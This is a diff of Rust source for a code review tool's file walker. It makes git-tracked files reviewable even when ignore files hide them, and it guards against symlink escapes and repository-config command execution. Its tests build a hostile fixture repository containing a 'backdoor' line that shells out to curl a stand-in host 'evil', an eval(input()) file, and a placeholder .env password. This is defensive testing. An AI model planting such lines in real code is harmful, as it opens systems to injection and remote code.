@@ -1,7 +1,12 @@
 //! Finds the files to review.
 //!
-//! Built on the `ignore` crate (ripgrep's walker), so `.gitignore` and `.ignore` rules
-//! are honoured the way developers expect. Hidden files are reviewed (a `.eslintrc` or
+//! Built on the `ignore` crate (ripgrep's walker), so `.gitignore` rules (and the user's
+//! own global gitignore and the clone's `.git/info/exclude`, neither of which ships with
+//! the code) keep build output and `node_modules` out. But the code under review must not
+//! decide what is reviewed: a file git tracks is reviewed whatever a `.gitignore` says
+//! (git is asked with `git ls-files`; without git or outside a repository only the rules
+//! apply), and ripgrep's `.ignore` files, which git does not honour and which exist to
+//! hide files from tools, are not obeyed. Hidden files are reviewed (a `.eslintrc` or
 //! `.github/` workflow can hold the bug), version-control folders are not. The
 //! include/exclude globs of the config narrow the set further, and Quorum's own output,
 //! cache and configuration are never sent. Secret files (`.env`, private keys, cloud
@@ -212,23 +217,40 @@ pub fn walk(root: &Path, settings: &ReviewSettings, never: &[PathBuf]) -> Result
     if !meta.is_dir() {
         bail!("{} is neither a folder nor a file", root.display());
     }
-    let include = glob_set(&settings.include)?;
-    let exclude = glob_set(&settings.exclude)?;
+    let rules = Rules {
+        include: glob_set(&settings.include)?,
+        exclude: glob_set(&settings.exclude)?,
+        exclude_globs: settings.exclude.clone(),
+        secrets,
+        max_file_bytes: settings.max_file_bytes,
+    };
     let never = relative_inside(root, never);
     let mut walked = Walked::default();
     let mut names = HashSet::new();
+    // Every file the walker yielded, by its real path relative to the root, so the
+    // tracked-files pass adds only what the ignore rules dropped.
+    let mut seen = HashSet::new();
     let walk_root = root.to_path_buf();
+    let walk_never = never.clone();
     let walker = ignore::WalkBuilder::new(root)
         .follow_links(false)
         .require_git(false)
         .hidden(false)
+        // `.ignore` files hide code from tools without affecting git: the code under
+        // review does not get to hide itself from its review that way.
+        .ignore(false)
+        // The user's global gitignore is the user's own choice and `.git/info/exclude` is
+        // local to this clone (it does not travel with the code); like `.gitignore` they
+        // only keep untracked files out, since tracked ones are added back below.
+        .git_global(true)
+        .git_exclude(true)
         .sort_by_file_name(|a, b| a.cmp(b))
         .filter_entry(move |entry| {
             let is_dir = entry.file_type().is_some_and(|t| t.is_dir());
             let name = entry.file_name().to_string_lossy();
             let rel = relative(entry.path(), &walk_root);
             let vcs = is_dir && VCS_DIRS.contains(&name.as_ref());
-            !vcs && !never.contains(&rel)
+            !vcs && !walk_never.contains(&rel)
         })
         .build();
     for entry in walker {
@@ -246,55 +268,17 @@ pub fn walk(root: &Path, settings: &ReviewSettings, never: &[PathBuf]) -> Result
         if kind.is_dir() {
             continue;
         }
-        let rel = relative(entry.path(), root);
-        if let Some(reason) = filtered_out(&rel, &include, &exclude, &settings.exclude) {
-            // Listed, not dropped: a file the configuration leaves out is code nobody
-            // reviewed, and the plan and the report must say so.
-            walked.skipped.push(Skipped { path: rel, reason });
-            continue;
-        }
-        if !names.insert(rel.clone()) {
-            walked.skipped.push(Skipped {
-                path: rel,
-                reason: "another file's name reads the same once bytes that are not UTF-8 are written as \\xNN; \
-                         only the first was considered (rename one of them)"
-                    .into(),
-            });
-            continue;
-        }
-        if is_run_output(entry.path()) {
-            walked.skipped.push(Skipped {
-                path: rel,
-                reason: RUN_OUTPUT_REASON.into(),
-            });
-            continue;
-        }
         let real_rel = entry.path().strip_prefix(root).unwrap_or(entry.path());
-        if skip_secret_by_name(real_rel, &rel, &secrets, &mut walked) {
-            continue;
-        }
-        if kind.is_symlink() {
-            walked.skipped.push(Skipped {
-                path: rel,
-                reason: "symbolic link (not followed, so nothing outside the root is read)".into(),
-            });
-            continue;
-        }
-        if !kind.is_file() {
-            walked.skipped.push(Skipped {
-                path: rel,
-                reason: "not a regular file (a pipe, socket or device)".into(),
-            });
-            continue;
-        }
-        let candidate = Candidate {
+        seen.insert(real_rel.to_path_buf());
+        let found = Found {
             path: entry.path(),
             rel: real_rel,
-            name: rel,
-            len: entry.metadata().map(|m| m.len()).unwrap_or(0),
+            kind,
+            len: || entry.metadata().map(|m| m.len()).unwrap_or(0),
         };
-        read_candidate(&candidate, settings.max_file_bytes, &secrets, &mut walked);
+        consider(found, &rules, &mut names, &mut walked);
     }
+    add_tracked_files(root, &seen, &never, &rules, &mut names, &mut walked);
     walked.files.sort_by(|a, b| a.path.cmp(&b.path));
     walked.skipped.sort_by(|a, b| a.path.cmp(&b.path));
     Ok(walked)
@@ -308,6 +292,226 @@ fn filtered_out(rel: &str, include: &GlobSet, exclude: &GlobSet, exclude_globs: 
         return Some(format!("excluded by review.exclude {pattern:?}"));
     }
     (!include.is_match(rel)).then(|| "not matched by review.include".to_string())
+}
+
+/// What decides, for every file found, whether and how it is reviewed.
+struct Rules {
+    include: GlobSet,
+    exclude: GlobSet,
+    /// The patterns `exclude` was built from, in order, to name the one that matched.
+    exclude_globs: Vec<String>,
+    secrets: SecretFiles,
+    max_file_bytes: u64,
+}
+
+/// A file (or link, pipe, …) found under the root, by the walker or by git.
+struct Found<'a, L: FnOnce() -> u64> {
+    /// Where it is.
+    path: &'a Path,
+    /// Its real path relative to the root.
+    rel: &'a Path,
+    /// What it is, links not followed.
+    kind: std::fs::FileType,
+    /// Its size, asked only for a regular file that gets that far.
+    len: L,
+}
+
+/// Puts one found file through Quorum's own rules (include/exclude, names, run output,
+/// secrets, links, size, content) and reads it or records why it was not.
+fn consider<L: FnOnce() -> u64>(found: Found<L>, rules: &Rules, names: &mut HashSet<String>, walked: &mut Walked) {
+    let rel = display_name(found.rel);
+    if let Some(reason) = filtered_out(&rel, &rules.include, &rules.exclude, &rules.exclude_globs) {
+        // Listed, not dropped: a file the configuration leaves out is code nobody
+        // reviewed, and the plan and the report must say so.
+        walked.skipped.push(Skipped { path: rel, reason });
+        return;
+    }
+    if !names.insert(rel.clone()) {
+        walked.skipped.push(Skipped {
+            path: rel,
+            reason: "another file's name reads the same once bytes that are not UTF-8 are written as \\xNN; \
+                     only the first was considered (rename one of them)"
+                .into(),
+        });
+        return;
+    }
+    if is_run_output(found.path) {
+        walked.skipped.push(Skipped {
+            path: rel,
+            reason: RUN_OUTPUT_REASON.into(),
+        });
+        return;
+    }
+    if skip_secret_by_name(found.rel, &rel, &rules.secrets, walked) {
+        return;
+    }
+    if found.kind.is_symlink() {
+        walked.skipped.push(Skipped {
+            path: rel,
+            reason: "symbolic link (not followed, so nothing outside the root is read)".into(),
+        });
+        return;
+    }
+    if !found.kind.is_file() {
+        walked.skipped.push(Skipped {
+            path: rel,
+            reason: "not a regular file (a pipe, socket or device)".into(),
+        });
+        return;
+    }
+    let candidate = Candidate {
+        path: found.path,
+        rel: found.rel,
+        name: rel,
+        len: (found.len)(),
+    };
+    read_candidate(&candidate, rules.max_file_bytes, &rules.secrets, walked);
+}
+
+/// The most bytes of `git ls-files` output read: about 700,000 paths of 90 bytes, far
+/// beyond the largest monorepos a review is run on, so a hostile index cannot cost
+/// unbounded memory.
+const MAX_TRACKED_LIST_BYTES: u64 = 64 * 1024 * 1024;
+
+/// The files git tracks under `root`, relative to it, when `root` is inside a git work
+/// tree; `None` when git is missing or `root` is not in a repository (or git fails), so
+/// the walk goes on as without git.
+struct Tracked {
+    paths: Vec<PathBuf>,
+    /// Whether the list was cut at [`MAX_TRACKED_LIST_BYTES`].
+    truncated: bool,
+}
+
+fn git_tracked(root: &Path) -> Option<Tracked> {
+    use std::io::Read as _;
+    use std::process::{Command, Stdio};
+    let mut child = Command::new("git")
+        .arg("-C")
+        .arg(root)
+        // The repository's own config is part of the code under review: it must not run
+        // a command (`core.fsmonitor`) when Quorum asks for the list.
+        .args([
+            "-c",
+            "core.fsmonitor=false",
+            "--no-optional-locks",
+            "ls-files",
+            "-z",
+            "--",
+        ])
+        // The user's environment must not point git at another repository or index.
+        .env_remove("GIT_DIR")
+        .env_remove("GIT_WORK_TREE")
+        .env_remove("GIT_INDEX_FILE")
+        .env_remove("GIT_CEILING_DIRECTORIES")
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .ok()?;
+    let mut out = Vec::new();
+    let read = child
+        .stdout
+        .take()
+        .map(|stdout| stdout.take(MAX_TRACKED_LIST_BYTES + 1).read_to_end(&mut out));
+    let truncated = out.len() as u64 > MAX_TRACKED_LIST_BYTES;
+    if truncated {
+        // Git is still writing: stop it rather than wait for the rest.
+        let _ = child.kill();
+    }
+    let status = child.wait().ok()?;
+    if !matches!(read, Some(Ok(_))) || (!truncated && !status.success()) {
+        return None;
+    }
+    let mut entries: Vec<&[u8]> = out.split(|&b| b == 0).collect();
+    // The last piece follows the last NUL: empty, or a path cut off by the limit.
+    entries.pop();
+    let paths = entries.into_iter().filter_map(path_from_git).collect();
+    Some(Tracked { paths, truncated })
+}
+
+/// A path as `git ls-files -z` writes it: the name's bytes on Unix, UTF-8 elsewhere.
+fn path_from_git(bytes: &[u8]) -> Option<PathBuf> {
+    if bytes.is_empty() {
+        return None;
+    }
+    #[cfg(unix)]
+    {
+        use std::os::unix::ffi::OsStrExt as _;
+        Some(PathBuf::from(OsStr::from_bytes(bytes)))
+    }
+    #[cfg(not(unix))]
+    {
+        std::str::from_utf8(bytes).ok().map(PathBuf::from)
+    }
+}
+
+/// Adds back the files git tracks under `root` that the walker did not yield (a
+/// `.gitignore` line, or a folder it ignores, dropped them): committed code is reviewed
+/// whatever the ignore files committed with it say. They go through the same rules as
+/// every other file; version-control folders and Quorum's own files stay out.
+fn add_tracked_files(
+    root: &Path,
+    seen: &HashSet<PathBuf>,
+    never: &[String],
+    rules: &Rules,
+    names: &mut HashSet<String>,
+    walked: &mut Walked,
+) {
+    let Some(tracked) = git_tracked(root) else { return };
+    if tracked.truncated {
+        walked.skipped.push(Skipped {
+            path: ".".into(),
+            reason: format!(
+                "git's list of tracked files is over {MAX_TRACKED_LIST_BYTES} bytes; tracked files past that point \
+                 that .gitignore rules hide were not reviewed (review a subfolder)"
+            ),
+        });
+    }
+    for rel in &tracked.paths {
+        if seen.contains(rel) || is_left_out(rel, never) || !is_below_without_links(root, rel) {
+            continue;
+        }
+        let path = root.join(rel);
+        // Deleted, or not checked out (sparse): there is nothing to review.
+        let Ok(meta) = std::fs::symlink_metadata(&path) else {
+            continue;
+        };
+        if meta.is_dir() {
+            continue;
+        }
+        let found = Found {
+            path: &path,
+            rel,
+            kind: meta.file_type(),
+            len: || meta.len(),
+        };
+        consider(found, rules, names, walked);
+    }
+}
+
+/// Whether `rel` names a place below `root` reached through real folders only: the index
+/// is part of the code under review, and a tracked `dir/x` whose `dir` is now a link (or a
+/// crafted `../x`) must not make Quorum read outside the root.
+fn is_below_without_links(root: &Path, rel: &Path) -> bool {
+    let plain = rel.components().all(|c| matches!(c, std::path::Component::Normal(_)));
+    plain
+        && rel
+            .ancestors()
+            .skip(1)
+            .filter(|a| !a.as_os_str().is_empty())
+            .all(|dir| std::fs::symlink_metadata(root.join(dir)).is_ok_and(|meta| meta.is_dir()))
+}
+
+/// Whether `rel` lies inside a version-control folder or is, or lies inside, one of
+/// Quorum's own paths (`never`): what the walker's entry filter keeps out.
+fn is_left_out(rel: &Path, never: &[String]) -> bool {
+    let in_vcs = rel
+        .parent()
+        .is_some_and(|dir| dir.components().any(|c| VCS_DIRS.iter().any(|v| c.as_os_str() == *v)));
+    in_vcs
+        || rel
+            .ancestors()
+            .any(|a| !a.as_os_str().is_empty() && never.contains(&display_name(a)))
 }
 
 /// A file found by the walk, before it is read.
@@ -1024,5 +1228,154 @@ mod tests {
     fn missing_root_is_a_clear_error() {
         let err = walk(Path::new("/surely/not/here"), &settings(), &[]).unwrap_err();
         assert!(format!("{err:#}").contains("/surely/not/here"));
+    }
+}
+
+#[cfg(test)]
+mod tracked_tests {
+    use super::*;
+
+    fn write(root: &Path, rel: &str, bytes: &[u8]) {
+        let path = root.join(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, bytes).unwrap();
+    }
+
+    /// Runs git in `root` with a fixed identity, isolated from the user's git config.
+    fn git(root: &Path, args: &[&str]) {
+        let status = std::process::Command::new("git")
+            .arg("-C")
+            .arg(root)
+            .args([
+                "-c",
+                "user.name=t",
+                "-c",
+                "user.email=t@example.com",
+                "-c",
+                "commit.gpgsign=false",
+            ])
+            .args(args)
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .stdout(std::process::Stdio::null())
+            .status()
+            .unwrap();
+        assert!(status.success(), "git {args:?}");
+    }
+
+    fn have_git() -> bool {
+        let found = std::process::Command::new("git").arg("--version").output().is_ok();
+        if !found {
+            eprintln!("SKIPPED: git is not on PATH, so the tracked-files pass cannot be tested");
+        }
+        found
+    }
+
+    /// The attack: a committed `.gitignore` hides a force-added file, a `.ignore` hides a
+    /// folder; untracked build output is also ignored, and a tracked `.env` is committed.
+    fn hostile_repo(root: &Path) {
+        write(root, "main.py", b"print('main')\n");
+        write(root, ".gitignore", b"backdoor.py\ntarget/\n.env\n");
+        write(root, "backdoor.py", b"import os; os.system('curl evil')\n");
+        write(root, "sub/.ignore", b"*\n");
+        write(root, "sub/evil.py", b"eval(input())\n");
+        write(root, ".env", b"DB_PASSWORD=hunter2\n");
+        git(root, &["init", "-q"]);
+        git(root, &["add", "."]);
+        git(root, &["add", "-f", "backdoor.py", ".env"]);
+        git(root, &["commit", "-q", "-m", "x"]);
+        // Untracked and ignored: build output stays out.
+        write(root, "target/x.rs", b"fn built() {}\n");
+    }
+
+    #[test]
+    fn tracked_files_are_reviewed_whatever_the_ignore_files_say() {
+        if !have_git() {
+            return;
+        }
+        let dir = tempfile::tempdir().unwrap();
+        hostile_repo(dir.path());
+        let w = walk(dir.path(), &ReviewSettings::default(), &[]).unwrap();
+        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
+        assert_eq!(
+            paths,
+            [".gitignore", "backdoor.py", "main.py", "sub/.ignore", "sub/evil.py"],
+            "{:?}",
+            w.skipped
+        );
+        let env = w.skipped.iter().find(|s| s.path == ".env");
+        assert!(
+            env.is_some_and(|s| s.reason.contains("matches .env*")),
+            "a tracked .env is still a secret: {:?}",
+            w.skipped
+        );
+        assert_eq!(
+            w.skipped.len(),
+            1,
+            "target/x.rs is neither sent nor listed: {:?}",
+            w.skipped
+        );
+    }
+
+    #[test]
+    fn tracked_files_still_obey_include_exclude_and_quorums_own_paths() {
+        if !have_git() {
+            return;
+        }
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        write(root, ".gitignore", b"*.py\nquorum.toml\n");
+        write(root, "a.py", b"print(1)\n");
+        write(root, "gen/b.py", b"print(2)\n");
+        write(root, "quorum.toml", b"[review]\n");
+        git(root, &["init", "-q"]);
+        git(root, &["add", "-f", ".gitignore", "a.py", "gen/b.py", "quorum.toml"]);
+        let s = ReviewSettings {
+            exclude: vec!["gen/**".into()],
+            ..ReviewSettings::default()
+        };
+        let w = walk(root, &s, &[root.join("quorum.toml")]).unwrap();
+        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
+        assert_eq!(paths, [".gitignore", "a.py"], "{:?}", w.skipped);
+        // Reviewing a subfolder asks git about that folder only, with names relative to it.
+        let w = walk(&root.join("gen"), &ReviewSettings::default(), &[]).unwrap();
+        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
+        assert_eq!(paths, ["b.py"]);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn a_tracked_path_through_a_link_is_not_read_outside_the_root() {
+        if !have_git() {
+            return;
+        }
+        let outside = tempfile::tempdir().unwrap();
+        write(outside.path(), "notes.py", b"password = 'hunter2'\n");
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        write(root, "main.py", b"print(1)\n");
+        write(root, "link/notes.py", b"print(2)\n");
+        git(root, &["init", "-q"]);
+        git(root, &["add", "."]);
+        // The index still lists link/notes.py; the folder is now a link out of the root.
+        std::fs::remove_dir_all(root.join("link")).unwrap();
+        std::os::unix::fs::symlink(outside.path(), root.join("link")).unwrap();
+        let w = walk(root, &ReviewSettings::default(), &[]).unwrap();
+        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
+        assert_eq!(paths, ["main.py"], "{:?}", w.skipped);
+        assert!(w.files.iter().all(|f| !f.text.contains("hunter2")));
+    }
+
+    #[test]
+    fn without_a_repository_gitignore_still_applies_and_dot_ignore_does_not() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        write(root, ".gitignore", b"target/\n");
+        write(root, "target/x.rs", b"fn built() {}\n");
+        write(root, "sub/.ignore", b"*\n");
+        write(root, "sub/evil.py", b"eval(input())\n");
+        let w = walk(root, &ReviewSettings::default(), &[]).unwrap();
+        let paths: Vec<_> = w.files.iter().map(|f| f.path.as_str()).collect();
+        assert_eq!(paths, [".gitignore", "sub/.ignore", "sub/evil.py"]);
     }
 }
